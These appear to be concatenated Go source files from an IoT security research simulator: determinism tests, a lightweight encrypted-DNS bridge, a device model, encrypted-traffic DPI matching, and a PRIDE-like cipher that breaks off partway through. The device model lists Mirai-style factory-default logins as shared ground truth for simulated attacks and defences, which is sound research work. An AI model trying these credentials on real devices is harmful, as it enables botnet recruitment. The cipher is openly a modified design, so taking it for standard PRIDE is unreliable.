// parallelism level and for every seed, the scheduled report must be
// byte-identical to the sequential one. Each experiment (and each inner
// sweep point) gets a forked Env with its own step clock and a restarted
// RNG stream, so neither pool interleaving nor sweep fan-out may leak into
// the rendered bytes.
func TestSchedulerDeterminismMatrix(t *testing.T) {
	if testing.Short() {
		t.Skip("full-suite scheduler matrix in -short mode")
	}
	for _, seed := range []int64{3, 11} {
		env := envFor(seed)
		baseline := Render((&Scheduler{Parallel: 1}).Run(env, Registry()))
		for _, parallel := range []int{4, 16} {
			parallel := parallel
			t.Run(fmt.Sprintf("seed%d_parallel%d", seed, parallel), func(t *testing.T) {
				env := envFor(seed)
				env.Workers = parallel
				got := Render((&Scheduler{Parallel: parallel}).Run(env, Registry()))
				if got != baseline {
					t.Errorf("parallel %d report differs from sequential at seed %d", parallel, seed)
				}
			})
		}
	}
}

// traceE1 runs E1 under a step clock with tracing on at the given
// parallelism and returns the serialized xlf-trace/v1 artifact.
func traceE1(t *testing.T, seed int64, parallel int) []byte {
	t.Helper()
	ex, ok := Lookup("E1")
	if !ok {
		t.Fatal("registry lost E1")
	}
	env := envFor(seed)
	env.Workers = parallel
	env.EnableTracing(0)
	(&Scheduler{Parallel: parallel}).Run(env, []Experiment{ex})
	var buf bytes.Buffer
	meta := obs.TraceMeta{Seed: seed, Clock: ClockStep, Source: "E1", Evicted: env.TraceEvicted()}
	if err := obs.WriteTrace(&buf, meta, env.TraceSpans()); err != nil {
		t.Fatalf("WriteTrace: %v", err)
	}
	return buf.Bytes()
}

// TestTraceDeterminismMatrix is the observability analogue of the
// scheduler matrix: with a step clock, the serialized trace of an E1 run
// must be byte-identical across runs and across -parallel levels, because
// the env forks its trace tree sequentially in dispatch order and
// WriteTrace renumbers span sequence numbers into file order.
func TestTraceDeterminismMatrix(t *testing.T) {
	if testing.Short() {
		t.Skip("trace determinism matrix in -short mode")
	}
	baseline := traceE1(t, 7, 1)
	if again := traceE1(t, 7, 1); !bytes.Equal(baseline, again) {
		t.Fatal("sequential E1 trace differs between two runs with the same seed")
	}
	for _, parallel := range []int{4, 16} {
		if got := traceE1(t, 7, parallel); !bytes.Equal(baseline, got) {
			t.Errorf("parallel %d E1 trace differs from sequential", parallel)
		}
	}

	// The timeline must span the stack: device, netsim, sim, dpi, core and
	// xauth all emit spans during the composite campaign.
	meta, spans, err := obs.ReadTrace(bytes.NewReader(baseline))
	if err != nil {
		t.Fatalf("ReadTrace: %v", err)
	}
	if meta.Seed != 7 || meta.Clock != ClockStep {
		t.Errorf("trace meta = %+v, want seed 7 clock step", meta)
	}
	layers := map[string]bool{}
	for _, s := range spans {
		layers[s.Layer] = true
	}
	for _, want := range []string{obs.LayerDevice, obs.LayerNetsim, obs.LayerSim, obs.LayerDPI, obs.LayerCore, obs.LayerXAuth} {
		if !layers[want] {
			t.Errorf("E1 trace covers no %q spans (got layers %v)", want, layers)
		}
	}
}

// telemetryE10 runs E10 under a step clock with telemetry on at the given
// parallelism and returns the serialized xlf-metrics/v1 artifact.
func telemetryE10(t *testing.T, seed int64, parallel int) []byte {
	t.Helper()
	ex, ok := Lookup("E10")
	if !ok {
		t.Fatal("registry lost E10")
	}
	env := envFor(seed)
	env.Workers = parallel
	env.EnableTelemetry(time.Second)
	(&Scheduler{Parallel: parallel}).Run(env, []Experiment{ex})
	windows, dumps := env.TelemetryWindows()
	var buf bytes.Buffer
	meta := obs.MetricsMeta{
		Seed:     seed,
		Clock:    ClockStep,
		Source:   "E10",
		Interval: env.RollupInterval(),
		Evicted:  env.TelemetryEvicted(),
	}
	if err := obs.WriteMetrics(&buf, meta, windows, dumps); err != nil {
		t.Fatalf("WriteMetrics: %v", err)
	}
	return buf.Bytes()
}

// TestTelemetryDeterminismMatrix is the rollup analogue of the trace
// matrix: with a step clock, the serialized telemetry of an E10 run (the
// attack timeline included) must be byte-identical across runs and across
// -parallel levels, because sweep points fork the telemetry tree
// sequentially in dispatch order and each city runs on its own sim clock.
func TestTelemetryDeterminismMatrix(t *testing.T) {
	if testing.Short() {
		t.Skip("telemetry determinism matrix in -short mode")
	}
	baseline := telemetryE10(t, 7, 1)
	if again := telemetryE10(t, 7, 1); !bytes.Equal(baseline, again) {
		t.Fatal("sequential E10 telemetry differs between two runs with the same seed")
	}
	for _, parallel := range []int{4, 16} {
		if got := telemetryE10(t, 7, parallel); !bytes.Equal(baseline, got) {
			t.Errorf("parallel %d E10 telemetry differs from sequential", parallel)
		}
	}

	meta, windows, dumps, err := obs.ReadMetrics(bytes.NewReader(baseline))
	if err != nil {
		t.Fatalf("ReadMetrics: %v", err)
	}
	if meta.Seed != 7 || meta.Clock != ClockStep || meta.Interval != time.Second {
		t.Errorf("metrics meta = %+v, want seed 7 clock step interval 1s", meta)
	}
	// Three scale points, each a 60-window run, labelled in sweep order.
	wantSrcs := []string{"E10/1000", "E10/10000", "E10/50000"}
	srcs := []string{}
	for _, w := range windows {
		if len(srcs) == 0 || srcs[len(srcs)-1] != w.Src {
			srcs = append(srcs, w.Src)
		}
	}
	if fmt.Sprint(srcs) != fmt.Sprint(wantSrcs) {
		t.Errorf("window sources = %v, want %v", srcs, wantSrcs)
	}
	if len(windows) < 3*55 {
		t.Errorf("windows = %d, want ~180 (3 scales x 60s horizon / 1s)", len(windows))
	}
	if len(dumps) == 0 {
		t.Error("no flight-recorder dumps despite the attack timeline")
	}
}

// TestStepClock pins the fake clock's contract: fixed advance per reading.
func TestStepClock(t *testing.T) {
	c := StepClock(time.Second)
	if got := c(); got != time.Second {
		t.Fatalf("first reading = %v, want 1s", got)
	}
	if got := c(); got != 2*time.Second {
		t.Fatalf("second reading = %v, want 2s", got)
	}
	env := &Env{Seed: 1, Clock: StepClock(time.Second)}
	if el := env.timeSection(func() {}); el != time.Second {
		t.Fatalf("timeSection elapsed = %v, want 1s", el)
	}
}

// TestEnvFork pins Fork's isolation contract: forks of a factory-backed
// env get independent clocks; forks of a bare env share the parent's.
func TestEnvFork(t *testing.T) {
	env := NewStepEnv(1)
	a, b := env.Fork(), env.Fork()
	if got := a.Clock(); got != time.Millisecond {
		t.Errorf("forked clock first reading = %v, want 1ms", got)
	}
	// b's clock must not have advanced with a's.
	if got := b.Clock(); got != time.Millisecond {
		t.Errorf("sibling fork clock = %v, want independent 1ms", got)
	}

	shared := &Env{Seed: 1, Clock: StepClock(time.Millisecond), Workers: 4}
	c, d := shared.Fork(), shared.Fork()
	c.Clock()
	if got := d.Clock(); got != 2*time.Millisecond {
		t.Errorf("bare-env forks should share a clock; got %v, want 2ms", got)
	}
	if c.Workers != 4 || c.Seed != 1 {
		t.Errorf("fork lost fields: %+v", c)
	}
}
