// Package dnsp implements XLF's DNS privacy bridge (§IV-A3). Existing DNS
// privacy transports (DoT/DoH) assume conventional-device crypto budgets,
// while constrained devices can only afford lightweight primitives — and
// the global DNS cannot be forklift-upgraded to lightweight ciphers. The
// paper's proposal: the device speaks lightweight-encrypted DNS to the XLF
// Core on the gateway, and the Core bridges to standard encrypted DNS
// (DoT) upstream. This package provides the lightweight codec (CTR mode +
// CMAC over a Table III cipher), the device stub, and the gateway bridge
// node.
package dnsp

import (
	"crypto/cipher"
	"crypto/subtle"
	"encoding/binary"
	"errors"
	"fmt"

	"xlf/internal/lwc"
	"xlf/internal/netsim"
)

// Codec seals and opens DNS messages with a lightweight cipher in CTR
// mode plus a CMAC tag — confidentiality and integrity at a cost a
// Class-1 device can afford.
type Codec struct {
	blk     cipher.Block
	mac     func() ([]byte, error)
	macBlk  cipher.Block
	nonce   uint64
	tagSize int
}

// NewCodec builds a codec over a 64- or 128-bit block cipher (separate
// instances should be used per direction in production; the simulation
// shares one per channel).
func NewCodec(blk cipher.Block) (*Codec, error) {
	if blk.BlockSize() != 8 && blk.BlockSize() != 16 {
		return nil, fmt.Errorf("dnsp: codec requires 64/128-bit block, got %d", blk.BlockSize()*8)
	}
	return &Codec{blk: blk, macBlk: blk, tagSize: 8}, nil
}

// Errors returned by Open.
var (
	ErrTooShort = errors.New("dnsp: message too short")
	ErrBadTag   = errors.New("dnsp: integrity tag mismatch")
)

// ctrXOR encrypts/decrypts data with CTR keystream derived from nonce.
func (c *Codec) ctrXOR(nonce uint64, data []byte) []byte {
	bs := c.blk.BlockSize()
	out := make([]byte, len(data))
	block := make([]byte, bs)
	ks := make([]byte, bs)
	for i := 0; i < len(data); i += bs {
		binary.BigEndian.PutUint64(block[bs-8:], nonce+uint64(i/bs))
		c.blk.Encrypt(ks, block)
		for j := 0; j < bs && i+j < len(data); j++ {
			out[i+j] = data[i+j] ^ ks[j]
		}
	}
	return out
}

// tag computes the CMAC over nonce||ciphertext, truncated to tagSize.
func (c *Codec) tag(nonce uint64, ct []byte) ([]byte, error) {
	m, err := lwc.NewCMAC(c.macBlk)
	if err != nil {
		return nil, err
	}
	var nb [8]byte
	binary.BigEndian.PutUint64(nb[:], nonce)
	m.Write(nb[:])
	m.Write(ct)
	return m.Sum(nil)[:c.tagSize], nil
}

// Seal encrypts a DNS name into nonce || ciphertext || tag.
func (c *Codec) Seal(name string) ([]byte, error) {
	c.nonce++
	n := c.nonce
	ct := c.ctrXOR(n<<16, []byte(name)) // shift leaves room for block counter
	t, err := c.tag(n, ct)
	if err != nil {
		return nil, err
	}
	out := make([]byte, 8, 8+len(ct)+len(t))
	binary.BigEndian.PutUint64(out, n)
	out = append(out, ct...)
	return append(out, t...), nil
}

// Open decrypts a sealed message, verifying the tag.
func (c *Codec) Open(msg []byte) (string, error) {
	if len(msg) < 8+c.tagSize {
		return "", ErrTooShort
	}
	n := binary.BigEndian.Uint64(msg[:8])
	ct := msg[8 : len(msg)-c.tagSize]
	gotTag := msg[len(msg)-c.tagSize:]
	want, err := c.tag(n, ct)
	if err != nil {
		return "", err
	}
	if !constEq(gotTag, want) {
		return "", ErrBadTag
	}
	return string(c.ctrXOR(n<<16, ct)), nil
}

// constEq compares tags in constant time via crypto/subtle; the
// earlier hand-rolled XOR loop is gone so the constant-time property is
// the standard library's, not ours to re-verify.
func constEq(a, b []byte) bool {
	return subtle.ConstantTimeCompare(a, b) == 1
}

// Bridge is the gateway-resident XLF Core component: it terminates
// lightweight-encrypted DNS from devices and re-issues queries upstream
// over DoT via the gateway resolver.
type Bridge struct {
	Address  Addr
	codec    *Codec
	resolver *netsim.Resolver

	served, tampered uint64
}

// Addr aliases netsim.Addr for the public constructor signature.
type Addr = netsim.Addr

var _ netsim.Node = (*Bridge)(nil)

// NewBridge creates the bridge node in front of a DoT resolver.
func NewBridge(addr Addr, codec *Codec, resolver *netsim.Resolver) *Bridge {
	return &Bridge{Address: addr, codec: codec, resolver: resolver}
}

// NetAddr implements netsim.Node.
func (b *Bridge) Addr() netsim.Addr { return b.Address }

// Stats returns (queriesServed, tamperedRejected).
func (b *Bridge) Stats() (uint64, uint64) { return b.served, b.tampered }

// Handle implements netsim.Node: decrypt, resolve upstream via DoT, reply
// encrypted.
func (b *Bridge) Handle(net *netsim.Network, pkt *netsim.Packet) {
	if pkt.Proto != "XLF-DNS" {
		return
	}
	name, err := b.codec.Open(pkt.Payload)
	if err != nil {
		b.tampered++
		return
	}
	src, srcPort := pkt.Src, pkt.SrcPort
	b.resolver.Lookup(net, name, func(addr netsim.Addr, lerr error) {
		resp := "ERR"
		if lerr == nil {
			resp = string(addr)
		}
		sealed, serr := b.codec.Seal(resp)
		if serr != nil {
			return
		}
		b.served++
		net.Send(&netsim.Packet{
			Src: b.Address, Dst: src, SrcPort: 8853, DstPort: srcPort,
			Proto: "XLF-DNS", Size: 40 + len(sealed), Encrypted: true,
			Payload: sealed, App: "xlf-dns-response",
		})
	})
}

// Stub is the device-side lightweight DNS client.
type Stub struct {
	Device netsim.Addr
	Bridge netsim.Addr
	codec  *Codec

	pending map[int]func(netsim.Addr, error)
	nextID  int
}

// NewStub creates a device stub sharing the bridge's channel codec.
func NewStub(device, bridge netsim.Addr, codec *Codec) *Stub {
	return &Stub{Device: device, Bridge: bridge, codec: codec, pending: make(map[int]func(netsim.Addr, error)), nextID: 30000}
}

// Query seals and sends a lookup; the callback fires when HandleResponse
// sees the reply.
func (s *Stub) Query(net *netsim.Network, name string, cb func(netsim.Addr, error)) error {
	sealed, err := s.codec.Seal(name)
	if err != nil {
		return err
	}
	s.nextID++
	port := s.nextID
	s.pending[port] = cb
	net.Send(&netsim.Packet{
		Src: s.Device, Dst: s.Bridge, SrcPort: port, DstPort: 8853,
		Proto: "XLF-DNS", Size: 40 + len(sealed), Encrypted: true,
		Payload: sealed, App: "xlf-dns-query",
	})
	return nil
}

// HandleResponse processes a bridge reply delivered to the device; wire it
// from the device's packet handler.
func (s *Stub) HandleResponse(pkt *netsim.Packet) {
	if pkt.Proto != "XLF-DNS" {
		return
	}
	cb, ok := s.pending[pkt.DstPort]
	if !ok {
		return
	}
	delete(s.pending, pkt.DstPort)
	resp, err := s.codec.Open(pkt.Payload)
	if err != nil {
		cb("", err)
		return
	}
	if resp == "ERR" {
		cb("", errors.New("dnsp: upstream resolution failed"))
		return
	}
	cb(netsim.Addr(resp), nil)
}
