// Package sim is a shard-state root: globalmut reports its direct
// package-level writes at the assignment and transitive ones at the
// boundary call into example.com/m/internal/reg.
package sim

import "example.com/m/internal/reg"

var ticks int

var seen = map[string]bool{}

// init registration is once-before-main, not shard state.
func init() {
	seen["boot"] = true
}

func directWrite() {
	ticks = 1  // want "\[globalmut\] write to package-level var sim.ticks"
	ticks++    // want "\[globalmut\] write to package-level var sim.ticks"
	x := ticks // a definition, not a global write
	_ = x
}

func mapWrite(k string) {
	seen[k] = true // want "\[globalmut\] write to package-level var sim.seen"
}

func boundary(name string) {
	reg.Register(name) // want "\[globalmut\] call to reg.Register mutates package-level var reg.byName \(via reg.Register\)"
}

func quietRead() int { return reg.Count() }

func quietLocal() {
	local := 0
	local++
	m := map[string]bool{}
	m["k"] = true
}

// waived retains a reviewed exception at the write site.
func waived() {
	ticks = 0 //xlf:allow-globalmut reset between replay epochs
}
