package device

import (
	"fmt"
	"sort"

	"xlf/internal/lwc"
)

// Firmware models the resident software image of a device: the attack
// surface of §III-A (outdated versions, unsigned images, downgrade).
type Firmware struct {
	Version   string
	Hash      uint64 // lightweight fingerprint (DM-PRESENT of the image)
	Signed    bool
	Tampered  bool // set by a successful firmware-modulation attack
	BuildData []byte
}

// NewFirmware fingerprints an image with the lightweight hash.
func NewFirmware(version string, image []byte, signed bool) Firmware {
	return Firmware{Version: version, Hash: lwc.Sum64(image), Signed: signed, BuildData: append([]byte(nil), image...)}
}

// Verify recomputes the fingerprint; a mismatch means the image was
// modified after signing.
func (f Firmware) Verify() bool {
	return !f.Tampered && f.Hash == lwc.Sum64(f.BuildData)
}

// Credentials is the device's administration login. Default credentials
// are Table II's "static password" and the Mirai recruitment vector.
type Credentials struct {
	User     string
	Password string
	// Default marks factory credentials never changed by the user.
	Default bool
}

// WeakPasswords is the classic default-credential dictionary used by
// Mirai-style scanners; kept here so both attacks and defenses reference
// the same ground truth.
var WeakPasswords = []Credentials{
	{User: "admin", Password: "admin", Default: true},
	{User: "root", Password: "root", Default: true},
	{User: "admin", Password: "1234", Default: true},
	{User: "root", Password: "12345", Default: true},
	{User: "admin", Password: "password", Default: true},
	{User: "user", Password: "user", Default: true},
	{User: "root", Password: "xc3511", Default: true},
	{User: "root", Password: "vizxv", Default: true},
}

// Port is an open network service on the device.
type Port struct {
	Number    int
	Service   string // "telnet", "http", "upnp", "rtsp", ...
	Cleartext bool
}

// State is a node in the device's ground-truth behaviour automaton.
type State string

// Transition is one edge of the behaviour automaton, labelled with the
// command/event that triggers it.
type Transition struct {
	From  State
	Event string
	To    State
}

// Behavior is the deterministic finite automaton of normal device
// operation (§IV-B3: "the state transitions are dictated by the automation
// programs ... a DFA could be used to reflect normal device behaviors").
type Behavior struct {
	Initial State
	edges   map[State]map[string]State
}

// NewBehavior builds a DFA from transitions. Duplicate (state, event)
// pairs are rejected — the automaton must be deterministic.
func NewBehavior(initial State, transitions []Transition) (*Behavior, error) {
	b := &Behavior{Initial: initial, edges: make(map[State]map[string]State)}
	for _, tr := range transitions {
		m := b.edges[tr.From]
		if m == nil {
			m = make(map[string]State)
			b.edges[tr.From] = m
		}
		if prev, dup := m[tr.Event]; dup && prev != tr.To {
			return nil, fmt.Errorf("device: nondeterministic transition %s --%s--> {%s,%s}", tr.From, tr.Event, prev, tr.To)
		}
		m[tr.Event] = tr.To
	}
	return b, nil
}

// Next returns the successor state for an event, or ok=false if the event
// is not legal in the given state.
func (b *Behavior) Next(s State, event string) (State, bool) {
	to, ok := b.edges[s][event]
	return to, ok
}

// Events returns the sorted event alphabet of the automaton.
func (b *Behavior) Events() []string {
	set := make(map[string]struct{})
	for _, m := range b.edges {
		for e := range m {
			set[e] = struct{}{}
		}
	}
	out := make([]string, 0, len(set))
	for e := range set {
		out = append(out, e)
	}
	sort.Strings(out)
	return out
}

// States returns the sorted state set.
func (b *Behavior) States() []State {
	set := map[State]struct{}{b.Initial: {}}
	for from, m := range b.edges {
		set[from] = struct{}{}
		for _, to := range m {
			set[to] = struct{}{}
		}
	}
	out := make([]State, 0, len(set))
	for s := range set {
		out = append(out, s)
	}
	sort.Slice(out, func(i, j int) bool { return out[i] < out[j] })
	return out
}

// Device is a runtime IoT device instance in the testbed.
type Device struct {
	ID      string
	Profile Profile
	// Caps are the service-layer capability names the device exposes
	// ("switch", "lock", "thermostat", "camera", "motion", ...).
	Caps []string

	Firmware Firmware
	Creds    Credentials
	Ports    []Port
	Behavior *Behavior

	// CloudDomains are the vendor endpoints the device talks to; DNS
	// queries for these identify the device type to a passive observer
	// (Apthorpe et al., used by the E2 experiment).
	CloudDomains []string

	// TypicalTraces holds benign event sequences for devices WITHOUT an
	// automation-derived Behavior (the paper's Amazon Echo point,
	// §IV-B3): XLF learns a transition model from these instead.
	TypicalTraces [][]string

	state State
	// Compromised is set when an attack succeeds against this device.
	Compromised bool
	// Malware names the payload running post-compromise ("mirai", ...).
	Malware string
	// BatteryUJ is remaining battery energy in microjoules (battery
	// devices only; drained by the crypto cost model).
	BatteryUJ float64

	history []string
}

// Option configures a Device at construction.
type Option func(*Device)

// WithCaps sets the device's capability names.
func WithCaps(caps ...string) Option {
	return func(d *Device) { d.Caps = append([]string(nil), caps...) }
}

// WithCreds sets the administration credentials.
func WithCreds(c Credentials) Option {
	return func(d *Device) { d.Creds = c }
}

// WithPorts sets the open service ports.
func WithPorts(ports ...Port) Option {
	return func(d *Device) { d.Ports = append([]Port(nil), ports...) }
}

// WithFirmware sets the firmware image.
func WithFirmware(f Firmware) Option {
	return func(d *Device) { d.Firmware = f }
}

// WithBehavior installs the ground-truth behaviour automaton and resets
// the device to its initial state.
func WithBehavior(b *Behavior) Option {
	return func(d *Device) {
		d.Behavior = b
		d.state = b.Initial
	}
}

// WithCloudDomains sets the vendor endpoints.
func WithCloudDomains(domains ...string) Option {
	return func(d *Device) { d.CloudDomains = append([]string(nil), domains...) }
}

// WithTypicalTraces provides benign event sequences for DFA-less devices.
func WithTypicalTraces(traces ...[]string) Option {
	return func(d *Device) {
		for _, tr := range traces {
			d.TypicalTraces = append(d.TypicalTraces, append([]string(nil), tr...))
		}
	}
}

// New builds a device on a Table I profile. Battery devices start with a
// canonical 2000 mAh @ 3V charge.
func New(id string, p Profile, opts ...Option) *Device {
	d := &Device{ID: id, Profile: p, state: "idle"}
	if p.Power == PowerBattery {
		d.BatteryUJ = 2.0 * 3600 * 3 * 1e6 // 2 Ah * 3 V in microjoules
	}
	for _, o := range opts {
		o(d)
	}
	return d
}

// State returns the device's current behaviour state.
func (d *Device) State() State { return d.state }

// History returns the accepted event sequence (a copy).
func (d *Device) History() []string {
	return append([]string(nil), d.history...)
}

// Apply feeds an event/command into the behaviour automaton. Events that
// are illegal in the current state are rejected — exactly the deviations
// XLF's behaviour profiling looks for.
func (d *Device) Apply(event string) error {
	if d.Behavior == nil {
		d.history = append(d.history, event)
		return nil
	}
	next, ok := d.Behavior.Next(d.state, event)
	if !ok {
		return fmt.Errorf("device %s: event %q illegal in state %q", d.ID, event, d.state)
	}
	d.state = next
	d.history = append(d.history, event)
	return nil
}

// ForceState sets the state directly; used by attack implementations that
// bypass the legitimate command path.
func (d *Device) ForceState(s State) { d.state = s }

// Login attempts an administrative login; success with factory-default
// credentials is what Mirai-style recruitment exploits.
func (d *Device) Login(user, password string) bool {
	return d.Creds.User == user && d.Creds.Password == password
}

// HasOpenPort reports whether a service is reachable.
func (d *Device) HasOpenPort(service string) bool {
	for _, p := range d.Ports {
		if p.Service == service {
			return true
		}
	}
	return false
}

// Compromise marks the device as attacker-controlled with a payload name.
func (d *Device) Compromise(malware string) {
	d.Compromised = true
	d.Malware = malware
}

// Disinfect restores the device after remediation (e.g., XLF containment
// plus a verified re-flash).
func (d *Device) Disinfect() {
	d.Compromised = false
	d.Malware = ""
}

// SpendCrypto charges the battery for processing n bytes with the given
// cipher cost and reports whether the device could afford it (RAM fit and
// remaining charge).
func (d *Device) SpendCrypto(cost CipherCost, n int) bool {
	if !cost.Fits {
		return false
	}
	if d.Profile.Power != PowerBattery {
		return true
	}
	uj := cost.MicroJoulePerKB * float64(n) / 1024
	if uj > d.BatteryUJ {
		return false
	}
	d.BatteryUJ -= uj
	return true
}

// AffordableCiphers returns the Table III algorithms whose working RAM
// fits this device, cheapest first — how XLF's device layer picks its
// encryption primitive (§IV-A2).
func AffordableCiphers(p Profile, reg *lwc.Registry) []lwc.Info {
	var out []lwc.Info
	for _, info := range reg.ByCost() {
		if CostModel(p, info.CyclesPerByte, info.RAMBytes).Fits {
			out = append(out, info)
		}
	}
	return out
}
