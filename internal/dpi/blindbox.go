package dpi

import (
	"crypto/hmac"
	"crypto/sha256"
	"encoding/binary"
	"fmt"
)

// BlindBox-style searchable encryption (Sherry et al., SIGCOMM 2015,
// adapted): the sending endpoint encrypts the payload end-to-end AND emits
// deterministic per-window tokens keyed with a session key that the XLF
// Core obtains over a separate secure connection with the service layer
// (§IV-B2). The middlebox matches rule tokens against payload tokens
// without ever seeing plaintext.

// TokenWindow is the sliding-window width in bytes. Keywords must be at
// least this long.
const TokenWindow = 4

// Tokenizer derives payload and rule tokens from a session key.
type Tokenizer struct {
	key []byte
}

// NewTokenizer creates a tokenizer for a session key.
func NewTokenizer(key []byte) (*Tokenizer, error) {
	if len(key) == 0 {
		return nil, fmt.Errorf("dpi: empty tokenizer key")
	}
	return &Tokenizer{key: append([]byte(nil), key...)}, nil
}

// token computes the deterministic token of one window.
func (t *Tokenizer) token(window []byte) uint64 {
	m := hmac.New(sha256.New, t.key)
	m.Write(window)
	return binary.BigEndian.Uint64(m.Sum(nil))
}

// Tokenize produces one token per TokenWindow-byte sliding window
// (stride 1). Payloads shorter than the window produce no tokens.
func (t *Tokenizer) Tokenize(payload []byte) []uint64 {
	if len(payload) < TokenWindow {
		return nil
	}
	out := make([]uint64, 0, len(payload)-TokenWindow+1)
	for i := 0; i+TokenWindow <= len(payload); i++ {
		out = append(out, t.token(payload[i:i+TokenWindow]))
	}
	return out
}

// ruleTokens is a compiled keyword: the token sequence of its windows.
type ruleTokens struct {
	rule    int
	keyword int
	offset  int // -1 = anywhere
	tokens  []uint64
}

// EncryptedDetector matches a rule set over tokenized (encrypted) traffic.
type EncryptedDetector struct {
	rs       *RuleSet
	compiled []ruleTokens
}

// NewEncryptedDetector compiles a rule set's keywords into token sequences
// under the session key.
func NewEncryptedDetector(rs *RuleSet, tk *Tokenizer) (*EncryptedDetector, error) {
	if len(rs.rules) == 0 {
		return nil, ErrNoRules
	}
	d := &EncryptedDetector{rs: rs}
	for ri, r := range rs.rules {
		for ki, k := range r.Keywords {
			d.compiled = append(d.compiled, ruleTokens{
				rule: ri, keyword: ki, offset: k.Offset,
				tokens: tk.Tokenize(k.Pattern),
			})
		}
	}
	return d, nil
}

// MatchTokens evaluates the rules against a payload's token stream. A
// keyword matches when its token sequence appears contiguously (and at its
// anchor, if any); a rule fires when all its keywords match.
func (d *EncryptedDetector) MatchTokens(tokens []uint64) []Detection {
	type owner = [2]int
	matched := make(map[owner]int)
	for _, ct := range d.compiled {
		pos := findSeq(tokens, ct.tokens, ct.offset)
		if pos >= 0 {
			matched[owner{ct.rule, ct.keyword}] = pos + len(ct.tokens) + TokenWindow - 1
		}
	}
	var out []Detection
	for ri, r := range d.rs.rules {
		offsets := make([]int, len(r.Keywords))
		all := true
		for ki := range r.Keywords {
			end, ok := matched[owner{ri, ki}]
			if !ok {
				all = false
				break
			}
			offsets[ki] = end
		}
		if all {
			out = append(out, Detection{Rule: r, Offsets: offsets})
		}
	}
	return out
}

// findSeq locates needle as a contiguous subsequence of haystack. With
// offset >= 0 only that position is checked; otherwise the first
// occurrence is returned. Returns -1 when absent.
func findSeq(haystack, needle []uint64, offset int) int {
	if len(needle) == 0 || len(needle) > len(haystack) {
		return -1
	}
	check := func(at int) bool {
		for j, v := range needle {
			if haystack[at+j] != v {
				return false
			}
		}
		return true
	}
	if offset >= 0 {
		if offset+len(needle) <= len(haystack) && check(offset) {
			return offset
		}
		return -1
	}
	for i := 0; i+len(needle) <= len(haystack); i++ {
		if check(i) {
			return i
		}
	}
	return -1
}
