package lwc

import (
	"crypto/cipher"
	"encoding/binary"
	"math/bits"
)

// PRIDE (Albrecht et al., CRYPTO 2014) is a software-oriented 64-bit SPN
// with a 128-bit key: k0 is used for pre-/post-whitening, k1 derives the 20
// round keys via byte-wise round-constant additions. This is a
// structure-faithful reimplementation: the S-box, key schedule constants
// (0xC1, 0xA5, 0x51, 0xC5) and round structure follow the published
// design; the bit-sliced linear layers L0..L3 are substituted with
// documented invertible word-level mixers. Validated by property tests.

// prideSBox is the PRIDE 4-bit S-box.
var prideSBox = [16]byte{
	0x0, 0x4, 0x8, 0xF, 0x1, 0x5, 0xE, 0x9,
	0x2, 0x7, 0xA, 0xC, 0xB, 0xD, 0x6, 0x3,
}

var prideSBoxInv = invert4(prideSBox)

const prideRounds = 20

type pride struct {
	k0 uint64              // whitening key
	rk [prideRounds]uint64 // round keys
}

var _ cipher.Block = (*pride)(nil)

// NewPride returns the PRIDE cipher for a 16-byte key.
func NewPride(key []byte) (cipher.Block, error) {
	if len(key) != 16 {
		return nil, KeySizeError{Algorithm: "Pride", Len: len(key)}
	}
	var c pride
	c.k0 = binary.BigEndian.Uint64(key[0:8])
	var k1 [8]byte
	copy(k1[:], key[8:16])
	for r := 0; r < prideRounds; r++ {
		// f_r(k1): add round-dependent constants into the odd bytes.
		kr := k1
		i := byte(r + 1)
		kr[1] += 0xC1 * i
		kr[3] += 0xA5 * i
		kr[5] += 0x51 * i
		kr[7] += 0xC5 * i
		c.rk[r] = binary.BigEndian.Uint64(kr[:])
	}
	return &c, nil
}

func (c *pride) BlockSize() int { return 8 }

// prideSub applies the 4-bit S-box to all 16 nibbles.
func prideSub(s uint64, box *[16]byte) uint64 {
	var out uint64
	for i := 0; i < 16; i++ {
		out |= uint64(box[s>>uint(4*i)&0xF]) << uint(4*i)
	}
	return out
}

// prideRotations are the per-16-bit-word mixing rotations of the
// substituted linear layer (invertible by construction).
var prideRotations = [4]int{1, 4, 9, 12}

// prideLinear mixes the state: each 16-bit word w_i is replaced by
// w_i ^ rotl(w_i, r_i) ^ rotl(w_i, r_i+2), then adjacent words are
// cross-mixed with an invertible Feistel-like swap-XOR.
func prideLinear(s uint64) uint64 {
	var w [4]uint16
	for i := range w {
		w[i] = uint16(s >> uint(16*(3-i)))
	}
	for i := range w {
		r := prideRotations[i]
		w[i] = wordMix(w[i], r)
	}
	// Cross-word diffusion (self-inverse on double application order).
	w[0] ^= w[2]
	w[1] ^= w[3]
	w[2] ^= w[1]
	w[3] ^= w[0]
	var out uint64
	for i := range w {
		out |= uint64(w[i]) << uint(16*(3-i))
	}
	return out
}

func prideLinearInv(s uint64) uint64 {
	var w [4]uint16
	for i := range w {
		w[i] = uint16(s >> uint(16*(3-i)))
	}
	w[3] ^= w[0]
	w[2] ^= w[1]
	w[1] ^= w[3]
	w[0] ^= w[2]
	for i := range w {
		w[i] = wordMixInvAt(w[i], i)
	}
	var out uint64
	for i := range w {
		out |= uint64(w[i]) << uint(16*(3-i))
	}
	return out
}

// wordMix computes x ^ rotl(x,r) ^ rotl(x,r+2). The map is linear over
// GF(2); invertibility for the rotation amounts used here is checked at
// construction of the inverse table.
func wordMix(x uint16, r int) uint16 {
	return x ^ rotl16(x, r) ^ rotl16(x, r+2)
}

// prideInvMats holds the precomputed inverse matrices of wordMix for each
// word's rotation amount. Computed once at package load and immutable
// afterwards.
var prideInvMats = func() [4]linear16 {
	var ms [4]linear16
	for i, r := range prideRotations {
		r := r
		ms[i] = invertLinear16(func(v uint16) uint16 { return wordMix(v, r) })
	}
	return ms
}()

// wordMixInvAt inverts wordMix for word index i using the precomputed
// inverse matrix.
func wordMixInvAt(x uint16, i int) uint16 {
	return applyLinear16(prideInvMats[i], x)
}

func rotl16(x uint16, n int) uint16 {
	return bits.RotateLeft16(x, n)
}

// linear16 is a 16x16 GF(2) matrix stored as 16 row masks: output bit i is
// parity(row[i] & x).
type linear16 [16]uint16

func applyLinear16(m linear16, x uint16) uint16 {
	var out uint16
	for i := 0; i < 16; i++ {
		if bits.OnesCount16(m[i]&x)&1 == 1 {
			out |= 1 << uint(i)
		}
	}
	return out
}

// matrixOf samples a linear function into matrix form (columns = images of
// basis vectors), returned as row masks.
func matrixOf(f func(uint16) uint16) linear16 {
	var rows linear16
	for j := 0; j < 16; j++ {
		col := f(1 << uint(j))
		for i := 0; i < 16; i++ {
			if col>>uint(i)&1 == 1 {
				rows[i] |= 1 << uint(j)
			}
		}
	}
	return rows
}

// invertLinear16 inverts a linear map over GF(2)^16 by Gauss-Jordan
